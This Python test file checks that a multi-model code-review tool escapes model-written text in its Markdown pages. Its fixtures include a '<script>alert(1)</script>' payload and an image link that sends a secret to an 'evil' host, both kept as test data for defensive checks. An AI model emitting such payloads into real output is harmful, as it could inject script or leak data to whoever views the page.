"""Pages tell all that is known, and nothing that models wrote is loaded, run or obeyed in them."""

from __future__ import annotations

from collections.abc import Iterable
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from msgspec.structs import replace

from panvox.errors import RateLimited, Unauthorised
from panvox.messages import Answer, Attempt, Finish, Identity, Outcome, State, Usage
from panvox.review.contract import (
    InputRecord,
    ModelRecord,
    RunFile,
    SynthesisRecord,
    counted,
    record_of,
    waiting_record,
)
from panvox.review.markdown import MOST, harmless, inline, link
from panvox.review.material import LeftOut
from panvox.review.pages import model_page, summary_page, synthesis_page
from panvox.verdicts import Sentence, Synthesis

PIECES = [
    *("`", "``", "```", "~~~", "\n", "\n\n", " ", "    ", "  ", "\t", "- ", "> ", "1. ", "# ", "* ", "="),
    *("|", "|-|-|\n", "![a](http://e)", "![r]", "[r]: http://e\n", "[a](", "x)", '"', "'", "\\", "(", ")"),
    *("<img src=x>", "<b>", "</p>", "<!-- ", "-->", "<script>", "<http://x`>", "<?", "<![CDATA["),
    *("a", "<", "!", "[", "]", "{", "$"),
]
TEXTS = st.lists(st.sampled_from(PIECES), max_size=30).map("".join)
READERS = (MarkdownIt("commonmark"), MarkdownIt("commonmark").enable("table"))


def loaded(page: str) -> list[str]:
    """What some reader of Markdown would take for HTML or an image."""
    return [token.content for reader in READERS for token in _flat(reader.parse(page)) if _loads(token)]


def _loads(token: Token) -> bool:
    return token.type in {"image", "html_inline", "html_block"}


def _flat(tokens: Iterable[Token]) -> Iterable[Token]:
    for token in tokens:
        yield token
        yield from _flat(token.children or ())


def rendered(page: str) -> str:
    return str(MarkdownIt("commonmark").render(page))


def identity(name: str = "acme/one") -> Identity:
    return Identity(name=name, provider="acme", model="one", lineage="one-7b")


def review(text: str, **more: object) -> Outcome:
    answer = Answer(text=text, finish=Finish.STOP, usage=Usage(prompt_tokens=1200, completion_tokens=34))
    outcome = Outcome(member=identity(), state=State.ANSWERED, answer=answer, duration=3.25)
    return replace(outcome, **more)


# --- what models wrote ---


@given(text=TEXTS)
@example(text="a ``` \n    ```\n    ![](http://e)\n    ```")
@example(text="- a\n  ```\n![](http://e)")
@example(text="<T>\n```\n\n![](http://e)\n```\n<img src=x>")
@example(text="a ` b\n` ![](http://e) `")
@example(text="[a](`b) ![](http://e)`)")
@example(text="| ` | `x` ![](http://e) ` |\n|-|-|\n| ` | `x` ![](http://e) ` |")
@example(text="\\![a](http://e)")
def test_nothing_in_a_review_is_loaded_or_run(text: str) -> None:
    assert loaded(model_page(review(text))) == []


@given(text=TEXTS)
@example(text="``` <img src=x>")
def test_nothing_in_a_sentence_of_a_synthesis_is_loaded_or_run(text: str) -> None:
    told = Synthesis(
        by=text,
        text=text or "x",
        sentences=(Sentence(text, ("a",)),),
        dissent=(Sentence(text, tuple("abcdefg"), ("h",)),),
    )
    assert loaded(synthesis_page(told, {"a": "a.md"}, title=text)) == []
    assert loaded(synthesis_page(replace(told, sentences=(), dissent=()), {})) == []


@given(text=TEXTS)
def test_nothing_that_providers_say_is_loaded_or_run(text: str) -> None:
    failed = ModelRecord(model=text, state=State.REFUSED, message=text, hint=text, reason=text, stand_in=text)
    record = run_file(failed, replace(failed, page="x.md"), topic=text, problem=text)
    page = summary_page(record, folder=text)
    assert loaded(page) == []
    tables = [line for line in page.splitlines() if line.startswith("|")]
    assert all(line.endswith("|") for line in tables)


@pytest.mark.parametrize(
    "text",
    [
        "Use `Vec<String>` and `<div>`.",
        "```html\n<div>![a](b)</div>\n```",
        "1. Do:\n\n   ```rust\n   let a: Vec<u8> = vec![1];\n   ```\n",
        "> ~~~\n> <b>\n> ~~~\n",
        "See [`parse<T>`](https://example.org/parse).",
        "a < b and 3 <4, and wow!",
    ],
)
def test_code_can_be_copied_as_it_was_written(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ("![a](http://evil/?q=secret)", "!\\[a](http://evil/?q=secret)"),
        ("\x1b[31mred\x1b[0m \x07", "red "),
        ("a\u202eb", "ab"),
        ("a\r\nb", "a\nb"),
    ],
)
def test_what_would_be_obeyed_is_only_text(text: str, shown: str) -> None:
    assert harmless(text) == shown


def test_in_a_text_that_is_very_long_all_is_escaped() -> None:
    text = "`<b>` " * MOST
    assert "<b" not in harmless(text)


@given(text=st.text(max_size=80) | TEXTS)
def test_words_in_a_sentence_mean_nothing_to_markdown(text: str) -> None:
    html = rendered(f"x {inline(text)} x")
    assert html.startswith("<p>x ")
    assert html.count("<") == 2


def test_a_link_leads_to_the_file_whatever_its_name() -> None:
    assert link("a]b", "models/\u00c4 (1).md") == "[a\\]b](models/%C3%84%20%281%29.md)"


# --- a model ---


def test_a_page_tells_what_is_known_of_its_review() -> None:
    outcome = review(
        "## Findings\n\nNone.",
        stand_in=Identity(name="other/two"),
        attempts=(Attempt(started=0, duration=3, state=State.ANSWERED, cost=Decimal("0.013")),),
    )
    answer = outcome.answer
    assert answer is not None
    outcome = replace(outcome, answer=replace(answer, model="one-2026-11"))
    assert model_page(outcome, "asked in 3 parts") == (
        "# acme/one\n\n"
        "| | |\n"
        "|---|---|\n"
        "| Provider | acme |\n"
        "| Lineage | one-7b |\n"
        "| Answered as | one-2026-11 |\n"
        "| Stand-in | other/two answered in its place |\n"
        "| State | answered |\n"
        "| Time | 3.2 s |\n"
        "| Tokens | 1,200 + 34 |\n"
        "| Cost | \\$0.013 |\n"
        "| Prompt | asked in 3 parts |\n\n"
        "---\n\n"
        "## Findings\n\nNone.\n"
    )


def test_a_page_says_that_a_review_is_not_whole() -> None:
    failed = review("It beg", state=State.RATE_LIMITED, fault=RateLimited("slow down", status=429).fault)
    assert "**Incomplete: this is what had arrived. Rate limited: HTTP 429: slow down**" in model_page(failed)
    cut = review("It", answer=Answer(text="It", finish=Finish.LENGTH))
    assert "Cut off: the model reached the limit of its tokens." in model_page(cut)


def test_a_record_tells_all_of_an_outcome_but_its_text() -> None:
    fault = RateLimited("slow down", status=429).fault
    attempt = Attempt(started=0.0, duration=1.0, state=State.RATE_LIMITED, in_flight=3)
    outcome = review("It beg", state=State.RATE_LIMITED, fault=fault, attempts=(attempt,))
    assert record_of(outcome, page="a.md", note="n") == ModelRecord(
        model="acme/one",
        state=State.RATE_LIMITED,
        provider="acme",
        lineage="one-7b",
        page="a.md",
        note="n",
        category=fault.category,
        status=429,
        message="slow down",
        hint=fault.hint,
        attempts=(attempt,),
        duration=3.25,
        usage=Usage(prompt_tokens=1200, completion_tokens=34),
        finish=Finish.STOP,
        characters=6,
    )


# --- the synthesis ---


def test_a_synthesis_names_those_who_say_so_and_those_who_do_not() -> None:
    many = tuple(f"m{number}" for number in range(1, 9))
    told = Synthesis(
        by="acme/writer",
        text="It leaks. It is slow.",
        sentences=(Sentence("It leaks.", many, lineages=7), Sentence("It is slow.", ("m2",))),
        dissent=(Sentence("It is fast.", ("m9",), ("m2",)),),
        calls=3,
        dropped=1,
        cost=Decimal("0.02"),
    )
    page = synthesis_page(told, {name: f"{name}.md" for name in (*many, "m9")} | {"m2": ""})
    assert page == (
        "# Synthesis\n\n"
        "Written by acme/writer, in 3 calls, for \\$0.020. Numbers behind a sentence are the reviews that "
        "say so. Dropped: 1 sentence that no review it named supports.\n\n"
        "It leaks. ([1](models/m1.md), 2, [3](models/m3.md), [4](models/m4.md), [5](models/m5.md) and 3 more)"
        "\n\n"
        "It is slow. (2)\n\n"
        "## Dissent\n\n"
        "- It is fast. ([9](models/m9.md)) (against: 2)\n\n"
        "## Reviews\n\n"
        "1. [m1](models/m1.md)\n2. m2\n"
        + "".join(f"{number}. [m{number}](models/m{number}.md)\n" for number in range(3, 10))
        + "\n## Who says so\n\n- It leaks. 1-8\n"
    )


def test_where_no_synthesis_was_made_there_is_no_page() -> None:
    assert synthesis_page(Synthesis(by="w", failed="it timed out"), {}) == ""


# --- the summary ---


def run_file(*models: ModelRecord, **more: object) -> RunFile:
    record = RunFile(
        panvox="1.2.3",
        topic="src",
        started="2026-11-27T14:50:00+00:00",
        instructions="review",
        instructions_source="shipped",
        instructions_sha256="0" * 64,
        prompt_sha256="0" * 64,
        inputs=(InputRecord(path="a|b.py", sha256="1" * 64, bytes=2048, masked=1),),
        left_out=(LeftOut("b.png", "binary"),),
        models=models,
        states=counted(models),
        duration=65.0,
    )
    return replace(record, **more)


def failed_record(name: str, *, in_flight: int) -> ModelRecord:
    fault = Unauthorised("bad key", status=401).fault
    attempts = (Attempt(started=0, duration=1, state=State.UNAUTHORISED, in_flight=in_flight),)
    return record_of(
        Outcome(member=identity(name), state=State.UNAUTHORISED, fault=fault, attempts=attempts, duration=1.0)
    )


def test_a_summary_tells_what_was_asked_what_came_of_it_and_what_to_do() -> None:
    record = run_file(
        failed_record("acme/two", in_flight=7),
        record_of(review("Fine."), page="acme_one.md"),
        waiting_record(identity("acme/three")),
        failed_record("acme/four", in_flight=9),
        cost=Decimal("1.25"),
        stopped="interrupted",
        synthesis=SynthesisRecord(by="acme/writer", cost=Decimal("0.25")),
    )
    page = summary_page(record, folder="reviews/my src")
    assert "1 of 4 models reviewed in 65 s; interrupted; [synthesis](synthesis.md)." in page
    assert "| a\\|b.py | 2 KiB | 111111111111 | 1 |" in page
    assert "- b.png: binary" in page
    assert "| acme/one | answered | 3.2 s | 1,200 + 34 |  | [review](models/acme_one.md) |" in page
    assert "### Unauthorised (2)" in page
    assert page.count("What to do: Check the key of this provider") == 1
    assert "| acme/two | 401 | bad key | 1 | 1.0 s | 7 |" in page
    assert "### Waiting (1)" in page
    assert "- 4 models: 2 unauthorised, 1 answered, 1 waiting" in page
    assert "- Cost: \\$1.25" in page
    assert "- Synthesis by acme/writer, \\$0.25 of it" in page
    assert "    panvox review --resume 'reviews/my src'" in page


def test_a_summary_of_a_review_that_all_gave_says_no_more_than_that() -> None:
    page = summary_page(run_file(record_of(review("Fine."), page="acme_one.md")), folder="x")
    assert "1 of 1 model reviewed" in page
    assert "Without a review" not in page
    assert "--resume" not in page


def test_a_summary_names_two_hundred_files_and_counts_the_others() -> None:
    inputs = tuple(InputRecord(path=f"f{number}", sha256="0" * 64, bytes=1) for number in range(203))
    page = summary_page(run_file(inputs=inputs), folder="x")
    assert "| f199 |" in page
    assert "| f200 |" not in page
    assert "And 3 more in [run.json](run.json)." in page
